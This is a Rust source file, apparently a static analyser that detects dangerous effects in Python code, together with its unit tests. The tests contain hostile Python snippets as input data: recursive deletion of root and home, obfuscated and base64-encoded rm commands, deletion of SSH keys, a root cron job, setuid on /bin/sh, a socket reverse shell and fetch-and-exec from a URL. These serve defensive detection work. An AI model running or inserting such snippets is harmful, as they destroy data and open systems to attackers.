fn open(f: &mut Facts, path: Value, mode: &Value, given: bool) {
    match mode.known() {
        Some(m) if m.contains(['w', 'a', 'x', '+']) => f.write(path),
        Some(_) => f.read(path),
        None if !given => f.read(path),
        // A mode known only at run time may write.
        None => f.write(path),
    }
}

/// `os.execv(file, args)`: the program is `file`, `args[0]` is only its name.
fn exec_v(f: &mut Facts, file: Value, args: Value) {
    let mut argv = vec![file];
    match args {
        Value::List(v) => argv.extend(v.into_iter().skip(1)),
        _ => argv.push(Value::unknown()),
    }
    f.exec(argv);
}

/// `os.execl(file, arg0, args…)` (with `skip` leading arguments before `file`).
fn exec_l(f: &mut Facts, pos: &[Value], skip: usize, end: usize) {
    let Some(file) = pos.get(skip) else {
        f.exec(vec![Value::unknown()]);
        return;
    };
    let mut argv = vec![file.clone()];
    if end > skip + 2 {
        argv.extend(pos[skip + 2..end].iter().cloned());
    }
    f.exec(argv);
}

/// `'rm -rf {}'.format(x)` (positional fields only; named ones are unknown).
fn format_braces(fmt: &str, mut known: bool, args: &[Value]) -> Value {
    let mut out = String::new();
    let mut it = fmt.chars().peekable();
    let mut auto = 0;
    while let Some(c) = it.next() {
        match c {
            '{' if it.peek() == Some(&'{') => {
                it.next();
                out.push('{');
            }
            '}' if it.peek() == Some(&'}') => {
                it.next();
                out.push('}');
            }
            '{' => {
                let field: String = it.by_ref().take_while(|c| *c != '}').collect();
                let name = field.split([':', '!']).next().unwrap_or("");
                let v = if name.is_empty() {
                    auto += 1;
                    args.get(auto - 1).cloned()
                } else {
                    name.parse::<usize>()
                        .ok()
                        .and_then(|i| args.get(i).cloned())
                };
                match v.and_then(|v| v.text()) {
                    Some((t, kn)) => {
                        out.push_str(&t);
                        known &= kn;
                    }
                    None => {
                        out.push_str(UNKNOWN);
                        known = false;
                    }
                }
            }
            _ => out.push(c),
        }
    }
    Value::Str { text: out, known }
}

#[cfg(test)]
mod tests {
    use super::super::{Effect, analyse};
    use super::*;

    fn py(code: &str) -> Facts {
        analyse(code, Lang::Python)
    }

    fn s(x: &str) -> Value {
        Value::str(x)
    }

    fn argv(xs: &[&str]) -> Effect {
        Effect::Exec(xs.iter().map(|x| s(x)).collect())
    }

    #[test]
    fn process_calls() {
        let f = py("__import__('os').system('rm -rf ~')");
        assert_eq!(f.effects, [Effect::Shell(s("rm -rf ~"))]);
        let f = py("import subprocess; subprocess.run(['rm','-rf','/'])");
        assert_eq!(f.effects, [argv(&["rm", "-rf", "/"])]);
        let f = py("import os; os.execvp('rm', ['rm', '-rf', '/srv'])");
        assert_eq!(f.effects, [argv(&["rm", "-rf", "/srv"])]);
        let f = py("import os; os.execl('/bin/rm', 'rm', '-rf', '/srv')");
        assert_eq!(f.effects, [argv(&["/bin/rm", "-rf", "/srv"])]);
        let f = py("import subprocess as sp; sp.Popen('rm -rf /', shell=True)");
        assert_eq!(f.effects, [Effect::Shell(s("rm -rf /"))]);
        let f = py("import os; c = 'rm -rf ' + '/home'; os.popen(c)");
        assert_eq!(f.effects, [Effect::Shell(s("rm -rf /home"))]);
        let f = py("import os; os.system(f'rm -rf {d}')");
        assert_eq!(
            f.effects,
            [Effect::Shell(Value::Str {
                text: format!("rm -rf {UNKNOWN}"),
                known: false
            })]
        );
        let f = py("import os; os.system('/ fr- mr'[::-1])");
        assert_eq!(f.effects, [Effect::Shell(s("rm -rf /"))]);
    }

    #[test]
    fn imports_and_aliases() {
        let f = py("from os import system as s\ns('rm -rf /')");
        assert_eq!(f.effects, [Effect::Shell(s("rm -rf /"))]);
        let f = py("from subprocess import *\ncall(['rm', '-rf', '/'])");
        assert_eq!(f.effects, [argv(&["rm", "-rf", "/"])]);
        let f =
            py("import importlib; o = importlib.import_module('os'); getattr(o, 'system')('id')");
        assert_eq!(f.effects, [Effect::Shell(s("id"))]);
        let f = py("import sys, os; sys.modules['os'].system('id')");
        assert_eq!(f.effects, [Effect::Shell(s("id"))]);
        let f = py("__builtins__.__dict__['__import__']('os').system('id')");
        assert_eq!(f.effects, [Effect::Shell(s("id"))]);
        let f = py("import os as o; run = o.system; run('id')");
        assert_eq!(f.effects, [Effect::Shell(s("id"))]);
    }

    #[test]
    fn deletion_and_writes() {
        let f = py("import shutil; shutil.rmtree('build')");
        assert_eq!(f.effects, [argv(&["rm", "-r", "-f", "--", "build"])]);
        let f = py("import os; os.remove('/etc/passwd')");
        assert_eq!(f.effects, [argv(&["rm", "-f", "--", "/etc/passwd"])]);
        let f = py("from pathlib import Path; (Path.home() / '.ssh').joinpath('id_rsa').unlink()");
        assert_eq!(f.effects, [argv(&["rm", "-f", "--", "~/.ssh/id_rsa"])]);
        let f = py("open('/etc/cron.d/x', 'w').write('* * * * * root id')");
        assert_eq!(f.effects, [Effect::Write(s("/etc/cron.d/x"))]);
        let f = py("print(open('README.md').read())");
        assert_eq!(f.effects, [Effect::Read(s("README.md"))]);
        let f = py("import os; os.chmod('/bin/sh', 0o4755)");
        assert_eq!(f.effects, [argv(&["chmod", "4755", "--", "/bin/sh"])]);
    }

    #[test]
    fn sockets() {
        let f = py(
            "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])",
        );
        assert!(
            f.effects
                .contains(&Effect::Connect(s("10.0.0.1"), Value::Num(4444)))
        );
        assert!(f.reverse_shell());
        let f = py("import socket; print(socket.gethostname())");
        assert!(!f.reverse_shell());
        assert!(f.effects.is_empty());
    }

    #[test]
    fn evaluated_code() {
        // exec(base64) of `import os;os.system('rm -rf /')`.
        let f = py(
            "import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgncm0gLXJmIC8nKQ=='))",
        );
        assert_eq!(f.effects, [Effect::Shell(s("rm -rf /"))]);
        let f = py("exec(bytes.fromhex('7072696e74283129').decode())");
        assert!(f.effects.is_empty() && !f.eval_unknown && !f.decode_exec);
        let f = py(
            "import zlib,base64;exec(zlib.decompress(base64.b64decode('eJwrKMrMK9EwBAAFkQE4')))",
        );
        assert!(f.decode_exec);
        let f = py("import urllib.request as u;exec(u.urlopen('http://x.example/a').read())");
        assert!(f.fetch_exec);
        assert!(
            f.effects
                .contains(&Effect::Request(s("http://x.example/a")))
        );
        let f = py("import os, sys; eval(sys.argv[1])");
        assert!(f.eval_unknown && f.process_module);
    }

    #[test]
    fn parse_errors_fail_closed() {
        assert!(!py("import os; os.system('rm -rf /'").errors.is_empty());
        let deep = format!("x = {}1{}", "(".repeat(400), ")".repeat(400));
        assert!(!py(&deep).errors.is_empty());
    }

    #[test]
    fn benign_code_has_no_effects() {
        for code in [
            "print(1+1)",
            "import json,sys; print(json.load(sys.stdin)[\"x\"])",
            "import sys; print(sys.version)",
            "import os; print(os.getcwd(), os.listdir('.'))",
            "import platform; print(platform.python_version())",
        ] {
            let f = py(code);
            assert!(f.effects.is_empty(), "{code}: {:?}", f.effects);
            assert!(f.errors.is_empty() && !f.eval_unknown, "{code}");
        }
    }
}
